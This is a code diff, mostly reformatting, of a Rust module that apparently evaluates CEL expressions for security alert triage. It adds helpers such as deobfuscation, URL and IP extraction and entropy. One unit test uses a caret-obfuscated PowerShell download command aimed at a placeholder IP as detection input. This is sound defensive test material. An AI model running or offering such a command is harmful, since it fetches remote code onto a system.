@@ -14,7 +14,16 @@ use std::collections::HashMap;
 use std::sync::{Arc, LazyLock};
 
 /// The variables an expression may name.
-pub const VARIABLES: &[&str] = &["alert", "facts", "lookups", "vars", "escalation", "actions", "item", "run"];
+pub const VARIABLES: &[&str] = &[
+    "alert",
+    "facts",
+    "lookups",
+    "vars",
+    "escalation",
+    "actions",
+    "item",
+    "run",
+];
 
 /// A compiled expression and its source.
 #[derive(Clone)]
@@ -38,8 +47,10 @@ pub struct CompileError {
 
 static ENV: LazyLock<Arc<cel::Env>> = LazyLock::new(|| {
     let mut env = cel::Env::stdlib();
-    env.add_extension(cel::extensions::strings).expect("strings extension");
-    env.add_extension(cel::extensions::lists).expect("lists extension");
+    env.add_extension(cel::extensions::strings)
+        .expect("strings extension");
+    env.add_extension(cel::extensions::lists)
+        .expect("lists extension");
     Arc::new(env)
 });
 
@@ -63,7 +74,9 @@ fn strs(v: &Value) -> Vec<String> {
 }
 
 fn list(v: Vec<String>) -> Value {
-    Value::List(Arc::new(v.into_iter().map(|s| Value::String(Arc::new(s))).collect()))
+    Value::List(Arc::new(
+        v.into_iter().map(|s| Value::String(Arc::new(s))).collect(),
+    ))
 }
 
 fn s(v: impl Into<String>) -> Value {
@@ -105,14 +118,17 @@ impl Functions {
         let mut c = Context::with_env(ENV.clone());
         macro_rules! add {
             ($name:expr, $f:expr) => {
-                c.add_function($name, $f).expect(concat!("function ", $name));
+                c.add_function($name, $f)
+                    .expect(concat!("function ", $name));
             };
         }
         // Strings and paths
         add!("lower", |x: Arc<String>| s(x.to_lowercase()));
         add!("basename", |x: Arc<String>| s(funcs::basename(&x)));
         add!("dirname", |x: Arc<String>| s(funcs::dirname(&x)));
-        add!("contains_any", |x: Arc<String>, l: Value| funcs::contains_any(&x, &strs(&l)));
+        add!("contains_any", |x: Arc<String>, l: Value| {
+            funcs::contains_any(&x, &strs(&l))
+        });
         add!("ends_with_any", |x: Arc<String>, l: Value| {
             let x = x.to_lowercase();
             strs(&l).iter().any(|e| x.ends_with(&e.to_lowercase()))
@@ -127,21 +143,36 @@ impl Functions {
         });
         add!("split_args", |x: Arc<String>| list(funcs::split_args(&x)));
         // Regexes, compiled once per thread and pattern
-        add!("regex", |x: Arc<String>, p: Arc<String>| -> Result<Value, ExecutionError> {
+        add!("regex", |x: Arc<String>,
+                       p: Arc<String>|
+         -> Result<Value, ExecutionError> {
             funcs::with_regex(&p, |r| Value::Bool(r.is_match(&x))).map_err(|e| re_err("regex", e))
         });
-        add!("regex_find", |x: Arc<String>, p: Arc<String>| -> Result<Value, ExecutionError> {
+        add!("regex_find", |x: Arc<String>,
+                            p: Arc<String>|
+         -> Result<Value, ExecutionError> {
             funcs::with_regex(&p, |r| {
-                let m = r.captures(&x).map(|c| c.get(1).or_else(|| c.get(0)).map(|m| m.as_str().to_owned()).unwrap_or_default());
+                let m = r.captures(&x).map(|c| {
+                    c.get(1)
+                        .or_else(|| c.get(0))
+                        .map(|m| m.as_str().to_owned())
+                        .unwrap_or_default()
+                });
                 s(m.unwrap_or_default())
             })
             .map_err(|e| re_err("regex_find", e))
         });
-        add!("regex_all", |x: Arc<String>, p: Arc<String>| -> Result<Value, ExecutionError> {
+        add!("regex_all", |x: Arc<String>,
+                           p: Arc<String>|
+         -> Result<Value, ExecutionError> {
             funcs::with_regex(&p, |r| {
                 let mut out: Vec<String> = Vec::new();
                 for c in r.captures_iter(&x).take(256) {
-                    let m = c.get(1).or_else(|| c.get(0)).map(|m| m.as_str().to_owned()).unwrap_or_default();
+                    let m = c
+                        .get(1)
+                        .or_else(|| c.get(0))
+                        .map(|m| m.as_str().to_owned())
+                        .unwrap_or_default();
                     if !out.contains(&m) {
                         out.push(m);
                     }
@@ -153,21 +184,38 @@ impl Functions {
         // Decoding and obfuscation
         add!("decoded", |x: Arc<String>| s(funcs::decoded(&x)));
         add!("deobfuscate", |x: Arc<String>| s(funcs::deobfuscate(&x)));
+        add!("strip_comments", |x: Arc<String>| s(funcs::strip_comments(
+            &x
+        )));
         add!("b64decode", |x: Arc<String>| {
-            s(funcs::b64_bytes(&x).and_then(|b| funcs::bytes_to_text(&b)).unwrap_or_default())
+            s(funcs::b64_bytes(&x)
+                .and_then(|b| funcs::bytes_to_text(&b))
+                .unwrap_or_default())
         });
         add!("entropy", |x: Arc<String>| Value::Float(funcs::entropy(&x)));
-        add!("obfuscation_ratio", |x: Arc<String>| Value::Float(funcs::obfuscation_ratio(&x)));
+        add!("obfuscation_ratio", |x: Arc<String>| Value::Float(
+            funcs::obfuscation_ratio(&x)
+        ));
         // Indicators
         add!("urls", |x: Arc<String>| list(funcs::urls(&x)));
         add!("ips", |x: Arc<String>| list(funcs::ips(&x)));
-        add!("url_host", |x: Arc<String>| s(funcs::url_host(&x).unwrap_or_default()));
+        add!("url_host", |x: Arc<String>| s(
+            funcs::url_host(&x).unwrap_or_default()
+        ));
         add!("is_ip", |x: Arc<String>| funcs::is_ip(&x));
         add!("is_public_ip", |x: Arc<String>| funcs::is_public_ip(&x));
-        add!("ip_in", |x: Arc<String>, l: Value| funcs::ip_in(&x, &strs(&l)));
-        add!("domain_in", |x: Arc<String>, l: Value| funcs::domain_in(&x, &strs(&l)));
+        add!("ip_in", |x: Arc<String>, l: Value| funcs::ip_in(
+            &x,
+            &strs(&l)
+        ));
+        add!("domain_in", |x: Arc<String>, l: Value| funcs::domain_in(
+            &x,
+            &strs(&l)
+        ));
         // Structure
-        add!("get", |m: Value, path: Arc<String>, default: Value| get_path(&m, &path).cloned().unwrap_or(default));
+        add!("get", |m: Value, path: Arc<String>, default: Value| {
+            get_path(&m, &path).cloned().unwrap_or(default)
+        });
         add!("truthy", |v: Value| truthy(&v));
         add!("uniq", |v: Value| {
             let mut out: Vec<Value> = Vec::new();
@@ -198,10 +246,34 @@ impl Functions {
     /// Names of the functions we add (for validation hints and docs).
     pub fn names() -> &'static [&'static str] {
         &[
-            "lower", "basename", "dirname", "contains_any", "ends_with_any", "starts_with_any", "in_list",
-            "split_args", "regex", "regex_find", "regex_all", "decoded", "deobfuscate", "b64decode",
-            "entropy", "obfuscation_ratio", "urls", "ips", "url_host", "is_ip", "is_public_ip", "ip_in",
-            "domain_in", "get", "truthy", "uniq", "flatten_strings",
+            "lower",
+            "basename",
+            "dirname",
+            "contains_any",
+            "ends_with_any",
+            "starts_with_any",
+            "in_list",
+            "split_args",
+            "regex",
+            "regex_find",
+            "regex_all",
+            "decoded",
+            "deobfuscate",
+            "strip_comments",
+            "b64decode",
+            "entropy",
+            "obfuscation_ratio",
+            "urls",
+            "ips",
+            "url_host",
+            "is_ip",
+            "is_public_ip",
+            "ip_in",
+            "domain_in",
+            "get",
+            "truthy",
+            "uniq",
+            "flatten_strings",
         ]
     }
 }
@@ -227,11 +299,18 @@ impl Scope {
 impl Expr {
     pub fn compile(src: &str) -> Result<Expr, CompileError> {
         match ENV.compile(src) {
-            Ok(p) => Ok(Expr { src: src.to_owned(), program: Arc::new(p) }),
+            Ok(p) => Ok(Expr {
+                src: src.to_owned(),
+                program: Arc::new(p),
+            }),
             Err(e) => {
                 let first = e.errors.first();
-                let offset = first.map(|x| line_col_to_offset(src, x.pos.0, x.pos.1)).unwrap_or(0);
-                let message = first.map(|x| x.msg.clone()).unwrap_or_else(|| e.to_string());
+                let offset = first
+                    .map(|x| line_col_to_offset(src, x.pos.0, x.pos.1))
+                    .unwrap_or(0);
+                let message = first
+                    .map(|x| x.msg.clone())
+                    .unwrap_or_else(|| e.to_string());
                 Err(CompileError { offset, message })
             }
         }
@@ -239,12 +318,22 @@ impl Expr {
 
     /// Top-level variables this expression names.
     pub fn variables(&self) -> Vec<String> {
-        self.program.references().variables().into_iter().map(|s| s.to_string()).collect()
+        self.program
+            .references()
+            .variables()
+            .into_iter()
+            .map(|s| s.to_string())
+            .collect()
     }
 
     /// Functions this expression calls.
     pub fn functions(&self) -> Vec<String> {
-        self.program.references().functions().into_iter().map(|s| s.to_string()).collect()
+        self.program
+            .references()
+            .functions()
+            .into_iter()
+            .map(|s| s.to_string())
+            .collect()
     }
 
     pub fn eval(&self, scope: &Scope) -> Result<Value, String> {
@@ -259,7 +348,10 @@ impl Expr {
     pub fn eval_bool(&self, scope: &Scope) -> Result<bool, String> {
         match self.eval(scope)? {
             Value::Bool(b) => Ok(b),
-            other => Err(format!("condition must be true or false, got {}", type_name(&other))),
+            other => Err(format!(
+                "condition must be true or false, got {}",
+                type_name(&other)
+            )),
         }
     }
 }
@@ -307,7 +399,11 @@ pub fn from_json(j: &Json) -> Value {
         Json::String(s) => Value::String(Arc::new(s.clone())),
         Json::Array(a) => Value::List(Arc::new(a.iter().map(from_json).collect())),
         Json::Object(o) => Value::Map(Map {
-            map: Arc::new(o.iter().map(|(k, v)| (Key::String(Arc::new(k.clone())), from_json(v))).collect()),
+            map: Arc::new(
+                o.iter()
+                    .map(|(k, v)| (Key::String(Arc::new(k.clone())), from_json(v)))
+                    .collect(),
+            ),
         }),
     }
 }
@@ -319,7 +415,9 @@ pub fn to_json(v: &Value) -> Json {
         Value::Bool(b) => Json::Bool(*b),
         Value::Int(i) => Json::from(*i),
         Value::UInt(u) => Json::from(*u),
-        Value::Float(f) => serde_json::Number::from_f64(*f).map(Json::Number).unwrap_or(Json::Null),
+        Value::Float(f) => serde_json::Number::from_f64(*f)
+            .map(Json::Number)
+            .unwrap_or(Json::Null),
         Value::String(s) => Json::String(s.to_string()),
         Value::Bytes(b) => Json::String(String::from_utf8_lossy(b).into_owned()),
         Value::List(l) => Json::Array(l.iter().map(to_json).collect()),
@@ -396,7 +494,11 @@ pub fn scan_references(src: &str, skip_strings: bool) -> Vec<Reference> {
                     j += 1;
                 }
                 if j > ns {
-                    out.push(Reference { root: word, name: chars[ns..j].iter().collect(), offset: ns });
+                    out.push(Reference {
+                        root: word,
+                        name: chars[ns..j].iter().collect(),
+                        offset: ns,
+                    });
                 }
                 i = j;
             }
@@ -421,12 +523,39 @@ mod tests {
     #[test]
     fn functions_work_in_cel() {
         let a = serde_json::json!({"process": {"command_line": "cmd /c p^o^w^e^r^s^h^e^l^l iwr http://203.0.113.5/x", "name": "CMD.EXE"}});
-        assert_eq!(eval("deobfuscate(alert.process.command_line).contains('powershell')", a.clone()), Value::Bool(true));
-        assert_eq!(eval("urls(alert.process.command_line)", a.clone()), list(vec!["http://203.0.113.5/x".into()]));
-        assert_eq!(eval("lower(alert.process.name) == 'cmd.exe'", a.clone()), Value::Bool(true));
-        assert_eq!(eval("get(alert, 'process.parent.name', 'none')", a.clone()), s("none"));
-        assert_eq!(eval("regex(alert.process.command_line, '(?i)IWR\\\\s+http')", a.clone()), Value::Bool(true));
-        assert_eq!(eval("ips(alert.process.command_line).filter(i, is_public_ip(i))", a), list(vec![]));
+        assert_eq!(
+            eval(
+                "deobfuscate(alert.process.command_line).contains('powershell')",
+                a.clone()
+            ),
+            Value::Bool(true)
+        );
+        assert_eq!(
+            eval("urls(alert.process.command_line)", a.clone()),
+            list(vec!["http://203.0.113.5/x".into()])
+        );
+        assert_eq!(
+            eval("lower(alert.process.name) == 'cmd.exe'", a.clone()),
+            Value::Bool(true)
+        );
+        assert_eq!(
+            eval("get(alert, 'process.parent.name', 'none')", a.clone()),
+            s("none")
+        );
+        assert_eq!(
+            eval(
+                "regex(alert.process.command_line, '(?i)IWR\\\\s+http')",
+                a.clone()
+            ),
+            Value::Bool(true)
+        );
+        assert_eq!(
+            eval(
+                "ips(alert.process.command_line).filter(i, is_public_ip(i))",
+                a
+            ),
+            list(vec![])
+        );
     }
 
     #[test]
@@ -438,7 +567,10 @@ mod tests {
     #[test]
     fn scans_references_outside_strings() {
         let r = scan_references("facts.a && 'facts.b' == lookups.c_d.x || vars.z", true);
-        let names: Vec<_> = r.iter().map(|r| format!("{}.{}@{}", r.root, r.name, r.offset)).collect();
+        let names: Vec<_> = r
+            .iter()
+            .map(|r| format!("{}.{}@{}", r.root, r.name, r.offset))
+            .collect();
         assert_eq!(names, vec!["facts.a@6", "lookups.c_d@32", "vars.z@46"]);
     }
 }
